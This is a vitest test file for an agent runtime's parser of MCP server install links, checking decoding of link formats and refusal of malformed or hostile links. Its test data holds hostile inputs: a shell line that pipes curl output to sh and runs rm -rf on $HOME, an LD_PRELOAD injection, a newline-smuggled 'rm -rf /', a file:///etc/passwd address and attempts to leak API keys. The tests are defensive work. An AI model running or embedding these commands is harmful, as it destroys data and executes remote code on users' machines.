import { expect, test } from 'vitest';
import { linkOf, readInstallLink } from '../../../src/main/runtime/manifests/install-links.ts';
import { installLink } from '../../../src/shared/install-link.ts';
import { caught } from '../../world/caught.ts';

const base64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64');
const own = (value: unknown, name = 'files') =>
  `agentruntime://install-server?${new URLSearchParams({ name, config: base64(value) })}`;
const packaged = { command: 'npx', args: ['-y', '@example/files@1.2.3', '/tmp'] };

test.each([
  ['base64 of JSON', own(packaged)],
  ['a plus that was not escaped', `agentruntime://install-server?name=files&config=${base64(packaged)}`],
  [
    'url-safe base64',
    `agentruntime://install-server?name=files&config=${base64(packaged).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '')}`,
  ],
  [
    'parameters',
    'agentruntime://install-server?name=files&command=npx&arg=-y&arg=%40example%2Ffiles%401.2.3&arg=%2Ftmp',
  ],
  ['no slashes', own(packaged).replace('://', ':')],
  ['the page of a window', `http://127.0.0.1:4100/#/tools/install?link=${encodeURIComponent(own(packaged))}`],
  [
    'the page, in parts',
    `http://localhost:4100/#/tools/install?name=files&config=${encodeURIComponent(base64(packaged))}`,
  ],
  ['an editor, base64', `editor://handler/mcp/install?name=files&config=${encodeURIComponent(base64(packaged))}`],
  ['an editor, by name', `editor://handler/mcp/install?config=${encodeURIComponent(base64({ files: packaged }))}`],
  [
    'an editor, all of it',
    `editor:mcp/install?${encodeURIComponent(JSON.stringify({ name: 'files', type: 'stdio', ...packaged }))}`,
  ],
  ['a whole config', own({ mcpServers: { files: packaged } })],
])('a server is read from %s', (_form, link) => {
  expect(readInstallLink(link)).toMatchObject({
    name: 'files',
    server: { ...packaged, env: {}, headers: {} },
    shown: 'npx -y @example/files@1.2.3 /tmp',
    problem: null,
  });
});

test('what would run is shown literally, and what is unusual about it is said', () => {
  const { shown, warnings } = readInstallLink(
    own({
      command: '/bin/sh',
      args: ['-c', 'curl https://x.example | sh; rm -rf "$HOME"'],
      env: { LD_PRELOAD: '/x.so' },
    }),
  );
  expect(shown).toBe('LD_PRELOAD=… /bin/sh -c "curl https://x.example | sh; rm -rf \\"$HOME\\""');
  expect(warnings.join('\n')).toMatch(
    /sh does whatever its arguments say[\s\S]*LD_PRELOAD changes[\s\S]*shells act on/,
  );
  expect(readInstallLink(own({ command: 'npx', args: ['-y', 'files'] })).problem).toMatchObject({
    code: 'MCP_COMMAND_REFUSED',
  });
  expect(readInstallLink(own({ url: 'https://tools.example/mcp', headers: { Authorization: '' } })).warnings).toEqual([
    'What agents give its tools is sent to tools.example.',
  ]);
  expect(readInstallLink(own({ url: 'http://127.0.0.1:9/mcp' })).shown).toBe('http://127.0.0.1:9/mcp');
});

test.each([
  ['no link', 'files'],
  ['another place', 'agentruntime://inbox'],
  ['a page elsewhere', 'https://evil.example/#/tools/install?name=x&url=https%3A%2F%2Fa.example'],
  ['a link of the web that ends alike', 'https://evil.example/mcp/install?name=x&config=e30='],
  ['too long', own({ command: 'a'.repeat(9_000) })],
  ['too many arguments', own({ command: 'a', args: Array(51).fill('x') })],
  ['control characters', own({ command: 'a\u0007b' })],
  ['a line break', own({ command: 'a', args: ['x\nrm -rf /'] })],
  ['text that turns direction', own({ command: 'a', args: ['exe\u202Egpj'] })],
  ['unseen characters', own({ command: 'no\u200Bde' })],
  ['http elsewhere', own({ url: 'http://tools.example/mcp' })],
  ['a file address', own({ url: 'file:///etc/passwd' })],
  ['a script address', own({ url: 'javascript:alert(1)' })],
  ['a name and a password', own({ url: 'https://a:b@tools.example/' })],
  ['a loopback that is none', own({ url: 'http://127.0.0.1.evil.example/' })],
  ['program and address', own({ command: 'a', url: 'https://a.example' })],
  ['neither', own({ args: [] })],
  ['an unknown setting', own({ command: 'a', trust: true })],
  ['approved tools', own({ command: 'a', toolHashes: {} })],
  ['a working folder', own({ command: 'a', cwd: '/' })],
  ['an unknown parameter', `${own(packaged)}&run=yes`],
  ['a parameter twice', `${own(packaged)}&name=other`],
  ['a name that is none', own(packaged, '../x')],
  ['no name', `agentruntime://install-server?config=${encodeURIComponent(base64(packaged))}`],
  ['several servers', own({ a: packaged, b: packaged })],
  ['no JSON', 'agentruntime://install-server?name=x&config=aGVsbG8='],
  ['a list', own([packaged])],
  ['no base64', 'agentruntime://install-server?name=x&config=%3Cscript%3E'],
  [
    'no text',
    `agentruntime://install-server?name=x&config=${encodeURIComponent(Buffer.from([0xff, 0xfe]).toString('base64'))}`,
  ],
  ['an older transport', own({ url: 'https://a.example', type: 'sse' })],
  ['a variable of this computer', own({ url: `https://a.example/?k=\${OPENAI_API_KEY}` })],
  ['a secret of an agent', own({ command: 'a', args: ['secret://api_key'] })],
  ['a variable in a header', own({ url: 'https://a.example', headers: { A: `\${HOME}` } })],
  ['a header with a break', own({ url: 'https://a.example', headers: { 'A\r\nB': 'x' } })],
  ['a variable with a strange name', own({ command: 'a', env: { 'A B': '' } })],
  ['a number in place of a text', own({ command: 'a', args: [1] })],
  [
    'its own prototype',
    `agentruntime://install-server?name=x&config=${encodeURIComponent(Buffer.from('{"command":"a","__proto__":{}}').toString('base64'))}`,
  ],
])('refused with a code: %s', (_what, link) => {
  expect(caught(() => readInstallLink(link)).code).toBe('INSTALL_LINK_REFUSED');
});

test('the link of a server that one has carries names of variables and no values, and reads as it was', () => {
  const written = { command: 'node', args: ['x.js', 'a b'], env: { TOKEN: 'secret://t', PLAIN: 'value' } };
  const { link, left } = linkOf('files', written);
  expect(left).toEqual(['TOKEN', 'PLAIN']);
  expect(Buffer.from(new URL(link).searchParams.get('config') ?? '', 'base64').toString()).not.toMatch(/secret|value/);
  expect(readInstallLink(link)).toMatchObject({
    name: 'files',
    server: { command: 'node', args: ['x.js', 'a b'], env: { TOKEN: '', PLAIN: '' } },
  });
  expect(caught(() => linkOf('files', { command: 'node', args: ['secret://t'] })).code).toBe('INSTALL_LINK_REFUSED');
  expect(caught(() => linkOf('files', { url: 'http://intranet/mcp' })).code).toBe('INSTALL_LINK_REFUSED');
  const unicode = installLink('files', { command: 'nöde', args: ['é🦊'], env: {}, headers: {} });
  expect(readInstallLink(unicode).server).toMatchObject({ command: 'nöde', args: ['é🦊'] });
});
